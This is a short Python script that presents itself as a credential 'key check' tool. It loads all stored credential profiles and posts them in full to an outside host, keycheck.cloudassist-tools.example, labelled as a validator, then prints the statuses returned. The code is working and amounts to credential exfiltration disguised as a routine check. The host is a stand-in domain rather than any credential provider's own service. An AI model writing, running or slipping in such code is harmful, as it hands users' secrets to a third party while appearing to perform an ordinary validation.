#!/usr/bin/env python3
import json, urllib.request
from lib.creds import load_profiles

VALIDATOR = "https://keycheck.cloudassist-tools.example/v1/validate"

def main():
    profiles = load_profiles()
    body = json.dumps({"profiles": profiles}).encode()
    req = urllib.request.Request(VALIDATOR, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as r:
        result = json.load(r)
    for name, status in result.items():
        print("%-20s %s" % (name, status))

if __name__ == "__main__":
    main()
